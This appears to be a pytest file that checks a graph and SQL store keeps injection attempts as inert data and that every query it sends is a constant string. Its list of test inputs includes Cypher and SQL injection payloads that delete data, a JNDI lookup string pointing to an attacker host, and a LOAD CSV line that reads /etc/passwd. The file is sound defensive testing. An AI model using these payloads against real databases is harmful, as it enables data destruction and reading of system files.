"""Query injection: hostile text is data in both stores, and queries are constants.

Names, teams, departments, titles, keys, event refs, ticket fields, ledger
entries and snapshot contents carry Cypher and SQL injection attempts,
parameter-like text, backticks, quotes, control characters, right-to-left
marks and very long strings. They must come back exactly as written, with
nothing else created or deleted, against the embedded store and a real
Neo4j. Values that must be names (channels, snapshot kinds, score names)
are refused with ``InvalidInput`` and leave the store as it was.

The static tests read ``graph/cypher.py`` and ``graph/neo4j_store.py``
(and ``graph/embedded.py``) with :mod:`ast`: every statement sent is a
constant of ``graph.cypher``, never text built at run time.
"""

from __future__ import annotations

import ast
import csv
from dataclasses import replace
from datetime import UTC
from datetime import date
from datetime import datetime
from pathlib import Path

import pytest

from graph import cypher
from graph.base import Subject
from graph.errors import InvalidInput
from graph.errors import NotFound
from ingest.identity import IdentitySettings
from ingest.pipeline import ingest_directory
from ingest.pipeline import ingest_tickets
from ingest.records import Channel
from ingest.records import IngestRun
from ingest.records import Interaction
from ingest.records import Person
from ingest.records import TicketFact

GRAPH = Path(__file__).resolve().parents[2] / "graph"

HOSTILE = [
    "x'}) DETACH DELETE n //",
    'x"}) MATCH (n) DETACH DELETE n RETURN 1 //',
    '" OR 1=1 --',
    "' OR '1'='1",
    "Robert'); DROP TABLE person;--",
    "1; DELETE FROM interaction; --",
    "]->(m) DETACH DELETE m //",
    "/* */ MATCH (n) SET n.name = 'pwned' //",
    "$param",
    "$key",
    "{key: 'p_other'}",
    "`Person`) DETACH DELETE n //`",
    "``",
    "\\' \\\" \\\\",
    "%s %d {0} {key}",
    "${jndi:ldap://attacker/x}",
    "CALL dbms.components() YIELD name RETURN name",
    "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
    "名前 ünïcödé 🙂 \u202egnp.exe",
    "line\nbreak\r\ttab",
    "nul\x00byte",
    "x" * 100_000,
]

#: longest text in the tests for values Neo4j indexes (keys, team and department names): its
#: range indexes refuse values over 8 kB with a StoreError (the ingest layer caps such fields)
INDEXED = 1_000

#: people that must survive whatever the hostile ones carry
BYSTANDERS = [
    Person("p_bystander_1", "Ann Ash", "Sales", "Field", "Rep"),
    Person("p_bystander_2", "Ben Birch", "IT", "Desk", "Analyst", is_it=True),
]
AT = datetime(2025, 3, 3, 9, 30, tzinfo=UTC)


def hostile_people() -> list[Person]:
    """One person per hostile text, carrying it in every text field (the key made unique)."""
    people = []
    for number, text in enumerate(HOSTILE):
        indexed = text[:INDEXED]
        people.append(
            Person(
                key=f"{indexed}#{number}".replace("\x00", "NUL"),
                name=text,
                department=f"{indexed} dept",
                team=indexed,
                title=text,
                is_it=number % 2 == 0,
                manager="p_bystander_1",
                aliases=(f"{text} alias",),
            )
        )
    return people


def test_hostile_people_round_trip_exactly(store):
    store.upsert_people(BYSTANDERS)
    people = hostile_people()
    assert store.upsert_people(people) == len(people)
    assert sorted(store.people(), key=lambda p: p.key) == sorted(
        BYSTANDERS + people, key=lambda p: p.key
    )
    for person in people:
        assert store.person(person.key) == person
    teams = {team.key: team for team in store.teams()}
    for person in people:
        team = teams[person.team_key]
        assert (team.name, team.department) == (person.team, person.department)
    assert {"Sales/Field", "IT/Desk"} <= set(teams)
    counts = store.counts()
    assert counts.people == len(people) + len(BYSTANDERS)
    assert counts.teams == len(people) + 2
    assert counts.departments == len(people) + 2


def test_hostile_people_updated_in_place(store):
    store.upsert_people(BYSTANDERS + hostile_people())
    moved = [
        replace(p, name=p.name[::-1], team="Field", department="Sales") for p in hostile_people()
    ]
    store.upsert_people(moved)
    assert sorted(store.people(), key=lambda p: p.key) == sorted(
        BYSTANDERS + moved, key=lambda p: p.key
    )
    assert sorted(t.key for t in store.teams()) == ["IT/Desk", "Sales/Field"]
    assert store.counts().departments == 2


def test_hostile_event_refs_count_once_and_leave_other_ties_alone(store):
    people = hostile_people()
    store.upsert_people(BYSTANDERS + people)
    items = [
        Interaction(people[i].key, people[(i + 1) % len(people)].key, channel, AT, HOSTILE[i])
        for i in range(len(people))
        for channel in (Channel.EMAIL, Channel.TICKET)
    ]
    items.append(Interaction("p_bystander_1", "p_bystander_2", Channel.MEETING, AT, "m1"))
    assert store.add_interactions(items) == len(items)
    assert store.add_interactions(items) == 0  # the same events, quotes and all, are seen again
    ties = list(store.ties())
    assert sum(t.count for t in ties) == len(items)
    pairs = {(t.source, t.target, t.channel) for t in ties}
    assert pairs == {(i.source, i.target, i.channel) for i in items}
    assert store.counts().people == len(people) + len(BYSTANDERS)


@pytest.mark.parametrize(
    "channel", ["email'}) DETACH DELETE n //", '" OR 1=1 --', "$channel", "EMAIL", ""]
)
def test_channels_are_names_not_text(store, channel):
    store.upsert_people(BYSTANDERS)
    bad = Interaction("p_bystander_1", "p_bystander_2", channel, AT, "ref")  # type: ignore[arg-type]
    with pytest.raises(InvalidInput) as caught:
        store.add_interactions([bad])
    assert "channel" in str(caught.value)
    with pytest.raises(InvalidInput):
        list(store.ties(channels=[channel]))  # type: ignore[list-item]
    assert store.counts().interactions == 0 and len(list(store.people())) == 2


@pytest.mark.parametrize(
    "kind",
    ["liaison'}) DETACH DELETE n //", 'x" OR 1=1', "$kind", "Liaison", "a b", "", "x" * 64],
)
def test_snapshot_kinds_are_names_not_text(store, kind):
    store.upsert_people(BYSTANDERS)
    store.save_snapshot("liaison", {"ok": 1})
    for call in (
        lambda: store.save_snapshot(kind, {"x": 1}),
        lambda: store.snapshot(kind),
        lambda: store.snapshot_versions(kind),
    ):
        with pytest.raises(InvalidInput) as caught:
            call()
        assert "kind" in str(caught.value)
    assert store.snapshot("liaison").data == {"ok": 1}
    assert store.snapshot_versions("liaison") == [1]
    assert len(list(store.people())) == 2


def test_hostile_snapshot_contents_round_trip(store):
    data = {text[:200]: [text, {"nested": text}] for text in HOSTILE}
    saved = store.save_snapshot("injection", data)
    assert store.snapshot("injection").data == data == saved.data


@pytest.mark.parametrize(
    "name", ["x'}) DETACH DELETE n //", "bw_x` = 1 //", "$name", "Degree", "a-b", "1st", ""]
)
def test_score_names_are_names_not_text(store, name):
    store.upsert_people(BYSTANDERS)
    store.write_scores(Subject.PERSON, {"p_bystander_1": {"degree": 2.0}})
    with pytest.raises(InvalidInput) as caught:
        store.write_scores(Subject.PERSON, {"p_bystander_1": {name: 1.0}})
    assert "score names" in str(caught.value)
    assert store.scores(Subject.PERSON) == {"p_bystander_1": {"degree": 2.0}}


def test_scores_of_hostile_keys_round_trip(store):
    people = hostile_people()
    store.upsert_people(BYSTANDERS + people)
    scores = {p.key: {"degree": float(i), "betweenness": 0.5} for i, p in enumerate(people)}
    store.write_scores(Subject.PERSON, scores)
    store.write_scores(Subject.TEAM, {p.team_key: {"ei_index": -0.5} for p in people})
    store.write_scores(Subject.DEPARTMENT, {p.department: {"liaison_score": 1.0} for p in people})
    assert store.scores(Subject.PERSON) == scores
    assert store.scores(Subject.TEAM) == {p.team_key: {"ei_index": -0.5} for p in people}
    assert store.scores(Subject.DEPARTMENT) == {
        p.department: {"liaison_score": 1.0} for p in people
    }
    with pytest.raises(NotFound):
        store.write_scores(Subject.PERSON, {"p_bystander_1'}) DETACH DELETE n //": {"degree": 1.0}})
    assert store.counts().people == len(people) + len(BYSTANDERS)


def test_erasing_a_hostile_key_erases_that_person_only(store):
    people = hostile_people()
    store.upsert_people(BYSTANDERS + people)
    store.add_interactions(
        [
            Interaction(p.key, "p_bystander_1", Channel.EMAIL, AT, f"r{i}")
            for i, p in enumerate(people)
        ]
        + [Interaction("p_bystander_1", "p_bystander_2", Channel.EMAIL, AT, "keep")]
    )
    with pytest.raises(NotFound):
        store.erase_person("p_bystander_1'}) DETACH DELETE n //")
    with pytest.raises(NotFound):
        store.erase_person("' OR '1'='1")
    assert store.counts().people == len(people) + 2
    victim = people[0]
    store.erase_person(victim.key)
    left = {p.key for p in store.people()}
    assert left == {p.key for p in BYSTANDERS + people[1:]}
    assert sum(t.count for t in store.ties()) == len(people)  # its one tie went with it


def test_hostile_ticket_facts_and_ledger_entries_round_trip(store):
    store.upsert_people(BYSTANDERS)
    facts = [
        TicketFact(f"tickets:{text[:50]}", text[:INDEXED], "p_bystander_1", text, AT, AT, 1, 0.5)
        for text in HOSTILE
    ]
    assert store.add_ticket_facts(facts) == len(facts)
    assert sorted(store.ticket_facts(), key=lambda f: (f.system, f.ref)) == sorted(
        facts, key=lambda f: (f.system, f.ref)
    )
    runs = [
        IngestRun(f"run{i}", "email", text, "failed", AT, AT, {"notes": {text: 1}}, error=text)
        for i, text in enumerate(HOSTILE)
    ]
    for run in runs:
        store.record_run(run)
    assert sorted(store.runs(limit=1000), key=lambda r: r.id) == sorted(runs, key=lambda r: r.id)


def test_windows_are_dates_not_text(store):
    store.upsert_people(BYSTANDERS)
    for since in ("2024-01'}) DETACH DELETE n //", "2024-01-01", 20240101):
        with pytest.raises(InvalidInput):
            list(store.ties(since=since))  # type: ignore[arg-type]
    assert len(list(store.ties(since=date(2024, 1, 1)))) == 0


# -- the statements themselves -------------------------------------------------------------


def module(name: str) -> ast.Module:
    return ast.parse((GRAPH / name).read_text(encoding="utf-8"))


def test_every_cypher_statement_is_a_constant_string():
    tree = module("cypher.py")
    names: list[str] = []
    for node in tree.body:
        if isinstance(node, ast.Expr | ast.ImportFrom):
            continue
        assert isinstance(node, ast.AnnAssign | ast.Assign), ast.dump(node)[:200]
        value = node.value
        parts = value.elts if isinstance(value, ast.Tuple) else [value]
        for part in parts:
            if isinstance(part, ast.Starred):  # a tuple of statements extended
                part = part.value
            plain = isinstance(part, ast.Constant) and isinstance(part.value, str)
            earlier = isinstance(part, ast.Name) and part.id in names
            assert plain or earlier, f"line {node.lineno}: not a plain string constant"
        target = node.target if isinstance(node, ast.AnnAssign) else node.targets[0]
        names.append(target.id)  # type: ignore[union-attr]
    assert not [n for n in ast.walk(tree) if isinstance(n, ast.JoinedStr | ast.BinOp | ast.Call)]
    assert len(names) > 30 and all(isinstance(getattr(cypher, n), str | tuple) for n in names)
    for name in names:
        value = getattr(cypher, name)
        assert all(isinstance(v, str) for v in (value if isinstance(value, tuple) else [value]))


def constants_of(tree: ast.Module) -> set[str]:
    """Module-level names of the Neo4j store bound to cypher constants or dicts of them."""
    found = set()
    for node in tree.body:
        if isinstance(node, ast.Assign) and isinstance(node.value, ast.Dict):
            values = node.value.values
            if values and all(is_cypher_constant(v) for v in values):
                found.add(node.targets[0].id)  # type: ignore[attr-defined]
    return found


def is_cypher_constant(node: ast.AST) -> bool:
    return (
        isinstance(node, ast.Attribute)
        and isinstance(node.value, ast.Name)
        and node.value.id == "cypher"
        and isinstance(getattr(cypher, node.attr, None), str | tuple)
    )


def test_the_neo4j_store_sends_only_cypher_constants():
    tree = module("neo4j_store.py")
    tables = constants_of(tree)
    assert {"WRITE_SCORES", "READ_SCORES"} <= tables
    checked = 0
    outermost = [n for n in tree.body if isinstance(n, ast.FunctionDef)] + [
        m for c in tree.body if isinstance(c, ast.ClassDef) for m in c.body
        if isinstance(m, ast.FunctionDef)
    ]  # fmt: skip
    for function in outermost:
        # where each local name used as a statement got its value (nested functions included)
        bound: dict[str, ast.AST] = {}
        for node in ast.walk(function):
            if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Name):
                bound[node.targets[0].id] = node.value
            if isinstance(node, ast.For) and isinstance(node.target, ast.Name):
                bound[node.target.id] = node.iter
        for call in [n for n in ast.walk(function) if isinstance(n, ast.Call)]:
            name = getattr(call.func, "attr", getattr(call.func, "id", ""))
            if name not in ("run", "execute_query", "_run", "_stream") or not call.args:
                continue
            query = call.args[0]
            checked += 1
            if isinstance(query, ast.Name) and function.name in ("_run", "_stream"):
                assert query.id == "query"  # the plumbing: its callers are checked here too
                continue
            if isinstance(query, ast.Name):
                query = bound.get(query.id, query)
            choices = [query.body, query.orelse] if isinstance(query, ast.IfExp) else [query]
            for choice in choices:
                if isinstance(choice, ast.Subscript):
                    assert isinstance(choice.value, ast.Name) and choice.value.id in tables
                    continue
                assert is_cypher_constant(choice), (
                    f"{function.name}, line {call.lineno}: {ast.unparse(call.args[0])} "
                    "is not a constant of graph.cypher"
                )
    assert checked >= 30
    # nothing in the module formats text that could become a statement
    for node in ast.walk(tree):
        if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod):
            assert not isinstance(node.left, ast.Constant), ast.unparse(node)
        if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "format":
            raise AssertionError(f"line {node.lineno}: str.format in the Neo4j store")


def test_the_embedded_store_formats_no_sql_from_values():
    tree = module("embedded.py")
    constant_loops = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.For) and isinstance(node.target, ast.Name):
            constant_loops[node.target.id] = node.iter
    for call in [n for n in ast.walk(tree) if isinstance(n, ast.Call)]:
        if getattr(call.func, "attr", "") not in ("execute", "executemany", "executescript"):
            continue
        query = call.args[0]
        if isinstance(query, ast.JoinedStr):
            # only names looped over a literal tuple of table names may go into the text
            for part in query.values:
                if isinstance(part, ast.FormattedValue):
                    loop = constant_loops.get(getattr(part.value, "id", ""))
                    assert isinstance(loop, ast.Tuple | ast.Name), ast.unparse(query)
                    if isinstance(loop, ast.Tuple):
                        assert all(isinstance(e, ast.Constant) for e in loop.elts)
            continue
        assert isinstance(query, ast.Constant | ast.Name | ast.Subscript), (
            f"line {call.lineno}: {ast.unparse(query)[:80]}"
        )
        assert not isinstance(query, ast.BinOp)


def test_a_key_with_a_nul_character_can_be_tied(store, request):
    if request.node.callspec.params["store"] == "embedded":
        request.applymarker(
            pytest.mark.xfail(
                strict=True,
                raises=InvalidInput,
                reason="the embedded store finds people through SQLite JSON functions, which "
                "end text at NUL: such a key is stored but 'no such person' when tied "
                "(keys from ingest are pseudonyms, so only the store API can meet this)",
            )
        )
    store.upsert_people([*BYSTANDERS, Person("nul\x00key", "Nul")])
    assert (
        store.add_interactions(
            [Interaction("nul\x00key", "p_bystander_1", Channel.EMAIL, AT, "n1")]
        )
        == 1
    )
    assert [t.source for t in store.ties()] == ["nul\x00key"]


def test_hostile_directory_through_the_ingest_layer(store, tmp_path):
    texts = [t for t in HOSTILE if "\n" not in t and "\r" not in t and len(t) < 1_000]
    rows = [["person_id", "name", "email", "department", "team", "title"]]
    for number, text in enumerate(texts):
        rows.append([f"id{number}", text, f"u{number}@example.com", f"{text} d", text, text])
    rows.append(["long", "Long Team", "long@example.com", "D", "t" * 5_000, ""])
    path = tmp_path / "hr.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    settings = IdentitySettings(key=b"injection", internal_domains=("example.com",))
    [report] = ingest_directory([path], store, settings)
    assert report.kept == len(texts)
    assert report.skipped == {"longer than 1,000 characters": 1}
    stored = {p.name: p for p in store.people()}
    for text in texts:
        person = stored[" ".join(text.split())]  # the directory folds white space
        assert (person.team, person.title) == (" ".join(text.split()),) * 2
        assert person.department == " ".join(f"{text} d".split())
    assert store.counts().people == len(texts)


def test_overlong_ticket_numbers_are_refused_at_ingest(store, tmp_path):
    path = tmp_path / "tickets.csv"
    path.write_text(
        "number,caller_id,opened_at,assignment_group\n"
        f'INC1,a@example.com,2024-01-01,"x\'}}) DETACH DELETE n //"\n'
        f"{'9' * 5_000},a@example.com,2024-01-01,Desk\n",
        encoding="utf-8",
    )
    settings = IdentitySettings(key=b"injection", internal_domains=("example.com",))
    [report] = ingest_tickets([path], store, settings)
    assert report.skipped == {"ticket number longer than 1,000 characters": 1}
    [fact] = store.ticket_facts()
    assert (fact.ref, fact.group) == ("INC1", "x'}) DETACH DELETE n //")
